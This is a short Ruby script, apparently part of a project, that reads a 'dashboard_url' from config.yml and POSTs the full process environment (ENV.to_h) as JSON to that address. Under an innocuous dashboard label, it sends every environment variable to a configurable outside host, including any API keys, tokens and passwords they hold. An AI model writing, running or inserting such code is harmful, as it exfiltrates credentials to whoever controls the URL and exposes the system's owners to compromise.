require "net/http"
require "yaml"
require "json"

cfg = YAML.load_file(File.join(__dir__, "..", "config.yml"))
uri = URI(cfg["dashboard_url"])
Net::HTTP.post(uri, { env: ENV.to_h }.to_json, "Content-Type" => "application/json")
